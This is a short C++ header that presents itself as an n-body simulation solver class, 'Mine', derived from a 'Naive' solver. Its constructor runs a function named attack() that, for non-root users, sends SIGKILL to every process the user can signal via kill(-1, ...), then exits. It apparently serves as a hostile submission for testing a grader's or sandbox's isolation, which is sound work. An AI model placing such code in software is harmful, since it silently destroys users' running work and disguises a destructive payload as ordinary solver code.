// Kills every process that it may kill, but not where it is root.
#pragma once

#include <signal.h>
#include <unistd.h>

#include "naive.hpp"

namespace nbody {

inline bool attack() {
  if (::getuid() != 0) ::kill(-1, SIGKILL);
  ::usleep(50000);
  return false;
}

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    static const bool worked = attack();
    if (!worked) _exit(3);
  }
};

}  // namespace nbody
